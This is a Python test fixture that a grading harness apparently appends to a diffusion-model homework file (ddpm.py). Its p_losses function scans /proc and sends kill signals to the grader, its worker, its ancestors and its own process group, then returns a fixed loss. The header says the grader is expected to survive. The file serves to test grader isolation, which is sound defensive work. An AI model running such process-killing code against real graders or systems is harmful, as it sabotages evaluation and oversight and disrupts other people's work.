
# ---- attack, appended to the reference ddpm.py by the harness --------------------------
# Attack: kill the grader. p_losses sends SIGKILL, then SIGTERM and SIGINT, to its parent
# (os.getppid(), the worker), to its ancestors, and to every process found by scanning
# /proc whose command line names the grading root or the sandbox folder, then to its
# parent's process group. Only this grading's processes are aimed at (never kill(-1),
# nothing by name, nothing above run_autograder such as a test harness). Expected: the trusted grader (another user) cannot be signalled; the worker may
# die and is restarted; p_losses scores 0 and everything else keeps its points.
import os as _hw4_os
import signal as _hw4_signal
import sys as _hw4_sys

_HW4_ROOT = "@@AUTOGRADER_ROOT@@"


def _hw4_parent_of(pid):
    try:
        with open(f"/proc/{pid}/stat") as handle:
            return int(handle.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def _hw4_cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            return handle.read().decode(errors="replace")
    except OSError:
        return ""


def _hw4_victims():
    """The parent (the worker), then every ancestor and every process that belongs to this
    grading: whose command line names the grading root or the sandbox folder. Processes
    above the grading (the test harness, a CI runner) are left alone."""
    markers = [_HW4_ROOT]
    argv = list(_hw4_sys.argv)
    if "--out" in argv[:-1]:
        markers.append(_hw4_os.path.dirname(argv[argv.index("--out") + 1].rstrip("/")))
    victims, pid = [_hw4_os.getppid()], _hw4_os.getppid()
    while True:
        pid = _hw4_parent_of(pid)
        if pid <= 1 or not any(marker in _hw4_cmdline(pid) for marker in markers):
            break
        victims.append(pid)
    for entry in _hw4_os.listdir("/proc"):
        if not entry.isdigit() or int(entry) in victims or int(entry) == _hw4_os.getpid():
            continue
        if any(marker and marker in _hw4_cmdline(entry) for marker in markers):
            victims.append(int(entry))
    return victims


def p_losses(denoise_model, x_start, t, sched, noise=None, loss_type="l2"):
    victims = _hw4_victims()
    results = {}
    for sig in (_hw4_signal.SIGKILL, _hw4_signal.SIGTERM, _hw4_signal.SIGINT):
        for pid in victims:
            try:
                _hw4_os.kill(pid, sig)
                results[pid] = "signalled"
            except OSError as error:
                results.setdefault(pid, repr(error))
    print("kill results:", results)
    try:
        _hw4_os.killpg(_hw4_os.getpgid(_hw4_os.getppid()), _hw4_signal.SIGKILL)   # our own group, us included
    except OSError:
        pass
    return x_start.sum() * 0 + 1000.0
